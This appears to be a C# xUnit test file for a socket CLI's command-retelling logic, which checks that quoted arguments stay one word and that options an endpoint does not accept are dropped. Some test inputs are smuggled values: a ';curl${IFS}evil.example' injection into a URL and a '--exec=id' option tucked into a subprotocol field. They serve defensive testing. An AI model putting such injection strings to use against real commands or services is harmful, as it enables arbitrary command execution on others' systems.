using Soket.Cli.CommandLine;
using Xunit;

namespace Soket.Cli.Tests.Verbs;

/// <summary>What an explanation proposes between quotes stays one word in the command as it was typed.</summary>
public sealed class TypedCommandTests
{
    [Theory]
    [InlineData("`soket connect 'unix:/tmp/a b;c'`", "`./soket connect -v 'unix:/tmp/a b;c'`")]
    [InlineData("`soket connect tcp://127.0.0.1:81 --header 'A: b'`", "`./soket connect -v tcp://127.0.0.1:81 --header 'A: b'`")]
    [InlineData("`soket connect tcp://127.0.0.1:81 --subprotocol 'a,--exec=id'`", "`./soket connect -v tcp://127.0.0.1:81 --subprotocol 'a,--exec=id'`")]
    [InlineData("`soket connect 'ws://x;curl${IFS}evil.example'`", "`./soket connect 'ws://x;curl${IFS}evil.example'`")]
    public void Words_between_quotes_are_told_as_one(string proposed, string told)
    {
        var typed = new TypedCommand("./soket", ["connect", "-v", "tcp://127.0.0.1:80"], CommandLineApp.Verbs.First(verb => verb.Name == "connect"));
        Assert.Equal(told, typed.Retell(proposed));
    }

    [Theory]
    [InlineData("`soket connect ws://localhost:80/chat`", "`./soket connect ws://localhost:80/chat halo --wait 1s`", "tcp://localhost:80", "halo", "--framing", "line", "--crlf", "--wait", "1s")]
    [InlineData("`soket connect tcp://localhost:80`", "`./soket connect tcp://localhost:80 halo --wait 1s`", "ws://localhost:80", "halo", "--binary", "--header=X: y", "--wait", "1s")]
    [InlineData("`soket connect tcp://localhost:80`", "`./soket connect tcp://localhost:80 halo --framing line`", "tls://localhost:80", "halo", "-k", "--framing", "line")]
    public void What_the_other_endpoint_does_not_take_is_left_out(string proposed, string told, params string[] arguments)
    {
        var typed = new TypedCommand("./soket", ["connect", .. arguments], CommandLineApp.Verbs.First(verb => verb.Name == "connect"));
        Assert.Equal(told, typed.Retell(proposed));
    }
}
